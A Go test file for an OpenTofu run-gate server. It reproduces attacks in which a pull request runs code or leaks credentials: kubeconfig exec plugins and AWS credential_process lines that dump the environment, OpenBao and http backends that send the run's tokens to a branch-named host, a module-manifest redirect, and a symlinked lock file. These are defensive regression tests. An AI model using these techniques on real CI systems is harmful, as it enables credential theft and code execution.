package server

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// kubeconfigExec is a kubeconfig whose user runs sh (touching marker) for
// its credentials: client-go runs an exec credential plugin when it first
// talks to the cluster.
func kubeconfigExec(marker string) string {
	return fmt.Sprintf(`apiVersion: v1
kind: Config
clusters:
- name: c
  cluster:
    server: https://127.0.0.1:1
    insecure-skip-tls-verify: true
contexts:
- name: c
  context: {cluster: c, user: u}
current-context: c
users:
- name: u
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1beta1
      command: sh
      args: ["-c", "env > %s; echo '{\"apiVersion\":\"client.authentication.k8s.io/v1beta1\",\"kind\":\"ExecCredential\",\"status\":{\"token\":\"x\"}}'"]
      interactiveMode: Never
`, marker)
}

const remoteStateKube = `data "terraform_remote_state" "k" {
  backend = "kubernetes"
  config = {
    config_path   = "./kc.yaml"
    secret_suffix = "x"
  }
}
`

// Promise (issue 12 "Pull-request plans" and README "Pull-request plans"):
// a pull request's plan is scanned first, and a plan "that would run code"
// is refused, no tofu plan starts. Break: the built-in data source
// terraform_remote_state (no provider to install, nothing the team chose)
// with backend "kubernetes" loads a kubeconfig the branch commits; its
// users[].user.exec runs any program when the backend first talks to the
// cluster, i.e. during `tofu plan`. The scan (scan/blocks.go DataReason,
// runsSomething) knows only external, aws_lambda_invocation, local_command
// and http, so the branch's plan runs its program with the server's
// environment and credentials, unheld. (The same holds for an s3 backend
// with a committed shared_config_files naming a credential_process.)
func TestAttack12bPullRequestRemoteStateKubeconfigExecRuns(t *testing.T) {
	h := prHarness(t)
	marker := filepath.Join(h.dir, "kube-exec-ran")
	h.git("checkout", "-q", "-b", "kube")
	os.WriteFile(filepath.Join(h.project, "infra/data/kc.yaml"), []byte(kubeconfigExec(marker)), 0o644)
	os.WriteFile(filepath.Join(h.project, "infra/data/remote.tf"), []byte(remoteStateKube), 0o644)
	h.git("add", "-A")
	h.git("commit", "-q", "-m", "kube")
	h.git("checkout", "-q", "main")
	v := h.launchWait("alice", "data", "--dry-run", "--ref", "kube")
	if _, err := os.Stat(marker); err == nil {
		env, _ := os.ReadFile(marker)
		t.Fatalf("a pull request's plan ran the program its kubeconfig names (%s: %s; findings %+v); it saw %d bytes of the server's run environment",
			v.Status, v.Message, v.Findings, len(env))
	}
}

// The same through the exempted path: a dry run under exclude_dry_run whose
// configuration reads remote state through a kubeconfig with an exec
// plugin is exempted (the scan finds nothing) and the plan runs the
// program without a person.
func TestAttack12bExemptedDryRunRemoteStateKubeconfigExecRuns(t *testing.T) {
	h := scanHarness(t, `
template "kube" {
  project = "infra"
  command = "infra/kube"
}
`)
	marker := filepath.Join(h.dir, "kube-exec-ran")
	dir := filepath.Join(h.project, "infra/kube")
	os.MkdirAll(dir, 0o755)
	os.WriteFile(filepath.Join(dir, "kc.yaml"), []byte(kubeconfigExec(marker)), 0o644)
	os.WriteFile(filepath.Join(dir, "main.tf"), []byte(remoteStateKube), 0o644)
	v := h.launchWait("alice", "kube", "--dry-run")
	if _, err := os.Stat(marker); err == nil {
		t.Fatalf("an exempted dry run ran the program a kubeconfig names without a person (%s: %s; findings %+v)", v.Status, v.Message, v.Findings)
	}
	_ = strings.Contains
}

// The branch's own backend: terraform { backend "kubernetes" { config_path =
// "./kc.yaml" } } in a pull request. `tofu init` in the private tree
// configures the backend and lists its workspaces, which runs the
// kubeconfig's exec plugin before any plan; the scan reads no backend
// (scan/blocks.go terraformSchema has only "encryption").
func TestAttack12bPullRequestBackendKubeconfigExecRuns(t *testing.T) {
	h := prHarness(t)
	marker := filepath.Join(h.dir, "kube-backend-ran")
	h.git("checkout", "-q", "-b", "kubebe")
	os.WriteFile(filepath.Join(h.project, "infra/data/kc.yaml"), []byte(kubeconfigExec(marker)), 0o644)
	os.WriteFile(filepath.Join(h.project, "infra/data/backend.tf"), []byte("terraform {\n  backend \"kubernetes\" {\n    config_path   = \"./kc.yaml\"\n    secret_suffix = \"x\"\n  }\n}\n"), 0o644)
	h.git("add", "-A")
	h.git("commit", "-q", "-m", "kube backend")
	h.git("checkout", "-q", "main")
	v := h.launchWait("alice", "data", "--dry-run", "--ref", "kubebe")
	if _, err := os.Stat(marker); err == nil {
		t.Fatalf("a pull request's init ran the program its backend's kubeconfig names (%s: %s; steps %v)", v.Status, v.Message, stepNames(v))
	}
}

// Promise (README "The configuration scan" step 1, issue 12 item 5): "A
// .terraform the gate did not install, committed or left in the working
// directory, is never read, and no setting makes it trusted"; "verify
// modules: the tree the plan will read is read again". Break: a
// credential's env sets TF_DATA_DIR (BuildEnv drops the server's own, not a
// credential's). The gate's get then writes its manifest to .tfdata in the
// copy, which manifestIn (server/scan.go) never looks at; modulesStep puts
// nothing in place; `tofu init -get=false` and `tofu plan` use the
// working directory's .tfdata/modules/modules.json, left there or
// committed, which sends module "m" (source "./mod") to another directory;
// verifyModulesStep reads ./mod with no manifest (manifestIn looks only in
// .terraform), finds the scanned digest and lets the plan run the module
// the scan never read. Only after the plan does checkPlanConfig notice.
func TestAttack12bDataDirSettingMakesLeftoverManifestTrusted(t *testing.T) {
	h := scanHarness(t, `
credential "dd" {
  env = { TF_DATA_DIR = ".tfdata" }
}
template "dd" {
  project = "infra"
  command = "infra/dd"
  credentials = ["dd"]
}
`)
	dir := filepath.Join(h.project, "infra/dd")
	for name, body := range map[string]string{
		"main.tf":     "module \"m\" {\n  source = \"./mod\"\n}\n",
		"mod/main.tf": "resource \"terraform_data\" \"m\" {\n  input = \"scanned\"\n}\n",
		// not a configuration file OpenTofu loads here: only through the manifest
		"other/main.tf":                "resource \"terraform_data\" \"m\" {\n  input = \"never-scanned\"\n}\n",
		".tfdata/modules/modules.json": `{"Modules":[{"Key":"","Source":"","Dir":"."},{"Key":"m","Source":"./mod","Dir":"other"}]}`,
	} {
		os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755)
		os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644)
	}
	v := h.launchWait("alice", "dd", "--dry-run")
	log := h.mustSSH("bob", "log", v.ID)
	if strings.Contains(log, "$ tofu plan") && strings.Contains(log, "never-scanned") {
		t.Fatalf("the plan read a module the scan never read (%s: %s):\n%s", v.Status, v.Message, log)
	}
	t.Logf("%s: %s\n%s", v.Status, v.Message, log)
}

// awsConfigProcess is an AWS shared config whose profile "p" gets its
// credentials by running sh (touching marker).
func awsConfigProcess(marker string) string {
	return fmt.Sprintf("[profile p]\ncredential_process = sh -c \"env > %s; echo '{\\\"Version\\\":1,\\\"AccessKeyId\\\":\\\"a\\\",\\\"SecretAccessKey\\\":\\\"b\\\"}'\"\nregion = us-east-1\n", marker)
}

// Promise (issue 12 item 2, README "The configuration scan"): an
// encryption block whose key provider runs a program is a finding, because
// it "runs a program the configuration names at plan time just as external
// does". Break: the scan flags only key_provider "external"
// (scan/blocks.go EncryptionReason). The built-in aws_kms key provider takes
// shared_config_files and profile from the configuration; a profile with
// credential_process runs that program as soon as OpenTofu builds the key
// provider, at `tofu init` already (so before the plan, and in a pull
// request's private tree too). The dry run is exempted and the program runs
// with the run's environment, no person asked.
func TestAttack12bEncryptionAwsKmsCredentialProcessRuns(t *testing.T) {
	h := scanHarness(t, `
template "kms" {
  project = "infra"
  command = "infra/kms"
}
`)
	marker := filepath.Join(h.dir, "kms-credential-process-ran")
	dir := filepath.Join(h.project, "infra/kms")
	os.MkdirAll(dir, 0o755)
	os.WriteFile(filepath.Join(dir, "awsconf"), []byte(awsConfigProcess(marker)), 0o644)
	os.WriteFile(filepath.Join(dir, "main.tf"), []byte(`terraform {
  encryption {
    key_provider "aws_kms" "k" {
      kms_key_id                  = "alias/x"
      key_spec                    = "AES_256"
      region                      = "us-east-1"
      profile                     = "p"
      shared_config_files         = ["./awsconf"]
      skip_credentials_validation = true
      skip_requesting_account_id  = true
      skip_metadata_api_check     = true
      endpoints {
        sts = "http://127.0.0.1:1"
      }
    }
    method "aes_gcm" "m" {
      keys = key_provider.aws_kms.k
    }
    plan {
      method = method.aes_gcm.m
    }
  }
}

resource "terraform_data" "x" {}
`), 0o644)
	v := h.launchWait("alice", "kms", "--dry-run")
	if _, err := os.Stat(marker); err == nil {
		t.Fatalf("an exempted dry run ran the credential_process an aws_kms key provider's shared config names (%s: %s; steps %v; findings %+v)",
			v.Status, v.Message, stepNames(v), v.Findings)
	}
}

// A server restart while a run is held at the scan stage: the private copy
// the gate read is kept, and releasing the run afterwards plans the
// modules scanned (held if it passes).
func TestAttack12bReleaseAfterRestartPlansScanned(t *testing.T) {
	h := scanHarness(t, "")
	v := h.launchWait("alice", "scan-modvar", "--dry-run")
	if v.Proposal == nil || Stage(v.Proposal.Stage) != StageScan {
		t.Fatalf("modvar: %s %+v", v.Status, v.Proposal)
	}
	h.restart()
	h.mustSSH("bob", "approve", v.ID, "--digest", v.Proposal.Digest)
	h.waitStatus(v.ID, StatusSucceeded, StatusFailed, StatusRefused)
	v = h.show("bob", v.ID)
	if statusOf(v.Run) != StatusSucceeded {
		t.Fatalf("released after a restart: %s: %s\n%s", v.Status, v.Message, h.mustSSH("bob", "log", v.ID))
	}
}

// Promise (README "Secrets": the masker replaces "every secret answer ...
// each also as OpenTofu renders it"): a survey answer marked sensitive
// never shows in show, show --json, the audit trail or the log. Break
// (minor): used as a module source (a variable the configuration declares
// plain), the finding does not quote it, but the gate's own `tofu get` in
// the scan step prints the module directory as OpenTofu cleans it
// ("- m in hunter2-module-XYZZY" for "./hunter2-module-XYZZY"), which the
// masker does not know, and the log keeps it. With the variable declared
// sensitive in the configuration nothing shows (held: the second case).
func TestAttack12bSensitiveModuleSourceShowsInGetLog(t *testing.T) {
	for _, c := range []struct {
		name, decl string
	}{
		{"plain", "variable \"src\" {\n  type = string\n}\n"},
		{"declared sensitive", "variable \"src\" {\n  type      = string\n  sensitive = true\n}\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			h := scanHarness(t, `
template "secsrc" {
  project = "infra"
  command = "infra/secsrc"
  survey "src" {
    type      = "string"
    sensitive = true
  }
}
`)
			const secret = "hunter2-module-XYZZY"
			dir := filepath.Join(h.project, "infra/secsrc")
			os.MkdirAll(filepath.Join(dir, secret), 0o755)
			os.WriteFile(filepath.Join(dir, secret, "main.tf"), []byte("resource \"terraform_data\" \"m\" {}\n"), 0o644)
			os.WriteFile(filepath.Join(dir, "main.tf"), []byte(c.decl+"\nmodule \"m\" {\n  source = var.src\n}\n"), 0o644)
			v := h.launchWait("alice", "secsrc", "--dry-run", "--var", "src=./"+secret)
			for what, text := range map[string]string{
				"show":      h.mustSSH("bob", "show", v.ID),
				"show json": h.mustSSH("bob", "show", v.ID, "--json"),
				"audit":     h.mustSSH("bob", "audit", "--json"),
				"log":       h.mustSSH("bob", "log", v.ID),
			} {
				if strings.Contains(text, secret) {
					t.Errorf("the sensitive answer shows in %s (%s):\n%s", what, v.Status, text)
				}
			}
		})
	}
}

// baoListener records every request's method and X-Vault-Token.
func baoListener(t *testing.T) (addr string, seen func() []string) {
	var mu sync.Mutex
	var got []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		got = append(got, r.Method+" "+r.URL.Path+" token="+r.Header.Get("X-Vault-Token"))
		mu.Unlock()
		w.WriteHeader(http.StatusInternalServerError)
	}))
	t.Cleanup(srv.Close)
	return srv.URL, func() []string { mu.Lock(); defer mu.Unlock(); return append([]string{}, got...) }
}

func baoEncryption(addr string) string {
	return fmt.Sprintf(`terraform {
  encryption {
    key_provider "openbao" "k" {
      address  = %q
      key_name = "k"
    }
    method "aes_gcm" "m" {
      keys = key_provider.openbao.k
    }
    state {
      method = method.aes_gcm.m
    }
  }
}
`, addr)
}

// The same from a pull request: the branch adds the encryption block; its
// plan is scanned, found clean, and `tofu init` in the private tree sends
// the run's token to the branch's host.
func TestAttack12bPullRequestOpenbaoSendsRunToken(t *testing.T) {
	addr, seen := baoListener(t)
	h := newHarness(t, `
credential "bao" {
  env = { BAO_TOKEN = "s.run-token-XYZZY" }
}
template "data" {
  project = "infra"
  command = "infra/data"
  credentials = ["bao"]
}
`)
	h.git("init", "-q", "-b", "main")
	h.git("add", "-A")
	h.git("commit", "-q", "-m", "main")
	h.git("checkout", "-q", "-b", "bao")
	os.WriteFile(filepath.Join(h.project, "infra/data/encryption.tf"), []byte(baoEncryption(addr)), 0o644)
	h.git("add", "-A")
	h.git("commit", "-q", "-m", "bao")
	h.git("checkout", "-q", "main")
	v := h.launchWait("alice", "data", "--dry-run", "--ref", "bao")
	if got := seen(); len(got) > 0 {
		t.Fatalf("a pull request's plan sent the run's token in %d requests to the branch's host (%s: %s; steps %v): %v",
			len(got), v.Status, v.Message, stepNames(v), got)
	}
}

// Promise (README "Pull-request plans"): a pull request's plan runs
// "against the state the checkout's runs use", and a plan that would send a
// write request is refused. Break: the branch replaces the backend with
// backend "http" at a host it names, with lock_address there too; the scan
// reads no backend block, and init and plan send the run's TF_HTTP_*
// credentials (basic auth) to that host, the plan's state lock as a LOCK
// request (a write). The pull request's plan also no longer plans against
// the checkout's state.
func TestAttack12bPullRequestHttpBackendSendsRunCredentials(t *testing.T) {
	var mu sync.Mutex
	var got []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		u, p, _ := r.BasicAuth()
		mu.Lock()
		got = append(got, r.Method+" "+r.URL.Path+" auth="+u+":"+p)
		mu.Unlock()
		if r.Method == http.MethodGet {
			w.WriteHeader(http.StatusNoContent)
			return
		}
		w.WriteHeader(http.StatusOK)
	}))
	t.Cleanup(srv.Close)
	h := newHarness(t, `
credential "state" {
  env = { TF_HTTP_USERNAME = "switchtender", TF_HTTP_PASSWORD = "state-password-XYZZY" }
}
template "data" {
  project = "infra"
  command = "infra/data"
  credentials = ["state"]
}
`)
	h.git("init", "-q", "-b", "main")
	h.git("add", "-A")
	h.git("commit", "-q", "-m", "main")
	h.git("checkout", "-q", "-b", "httpbe")
	os.WriteFile(filepath.Join(h.project, "infra/data/backend.tf"), []byte(fmt.Sprintf(
		"terraform {\n  backend \"http\" {\n    address      = %q\n    lock_address = %q\n    unlock_address = %q\n  }\n}\n",
		srv.URL+"/state", srv.URL+"/lock", srv.URL+"/lock")), 0o644)
	h.git("add", "-A")
	h.git("commit", "-q", "-m", "http backend")
	h.git("checkout", "-q", "main")
	v := h.launchWait("alice", "data", "--dry-run", "--ref", "httpbe")
	mu.Lock()
	defer mu.Unlock()
	if len(got) > 0 {
		t.Fatalf("a pull request's plan sent the run's state credentials to the branch's host (%s: %s; steps %v): %v",
			v.Status, v.Message, stepNames(v), got)
	}
}

// Promise (README "Pull-request plans"): the plan runs in a private tree
// and "the checkout's working tree, index and HEAD are never touched"; the
// branch's tree "is the branch's to shape", so no link in it may lead a
// write out (placeInTree). Break: the branch commits
// .terraform.tfstate.lock.info in its working directory as a symbolic link
// to any file the server's user can write (here a file standing for the
// checkout's real state; the runs directory's absolute path is in every
// plan log's -out=). dropUntrusted (server/pullrequest.go) removes only
// .terraform and terraform.d; the local backend's state lock writes its lock
// information through the link, overwriting the target, then removes the
// link. The target keeps the lock JSON.
func TestAttack12bPullRequestLockInfoLinkOverwritesOutside(t *testing.T) {
	h := prHarness(t)
	victim := filepath.Join(h.dir, "victim.tfstate")
	os.WriteFile(victim, []byte("the real state\n"), 0o644)
	h.git("checkout", "-q", "-b", "lockinfo")
	os.Symlink(victim, filepath.Join(h.project, "infra/data/.terraform.tfstate.lock.info"))
	h.git("add", "-A", "-f")
	h.git("commit", "-q", "-m", "lock info link")
	h.git("checkout", "-q", "main")
	v := h.launchWait("alice", "data", "--dry-run", "--ref", "lockinfo")
	if b, _ := os.ReadFile(victim); string(b) != "the real state\n" {
		t.Fatalf("a pull request's plan overwrote a file outside its tree through a committed lock-info link (%s: %s): now %q", v.Status, v.Message, b)
	}
}
